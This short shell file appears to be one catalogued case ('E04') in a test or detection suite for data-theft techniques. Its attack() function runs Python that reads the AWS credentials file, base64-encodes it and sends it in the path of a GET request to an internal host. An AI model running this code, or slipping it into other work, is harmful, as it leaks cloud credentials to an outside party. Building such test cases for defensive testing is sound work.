# SPDX-License-Identifier: Apache-2.0
TITLE="python puts the secret into the path of a GET"
ROW="E04"
attack() {
	python3 - <<-'END'
	import base64, os, urllib.request
	data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()
	urllib.request.urlopen('http://10.99.0.2/hacked/' + base64.urlsafe_b64encode(data).decode(), timeout=5)
	END
}
